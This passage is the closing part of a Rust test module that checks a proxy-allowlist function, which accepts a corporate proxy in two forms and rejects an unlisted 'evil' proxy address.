        assert!(proxy_allowed("http://proxy.corp:3128/", &allowed));
        assert!(proxy_allowed("proxy.corp:3128", &allowed));
        assert!(!proxy_allowed("http://evil:8080", &allowed));
    }
}
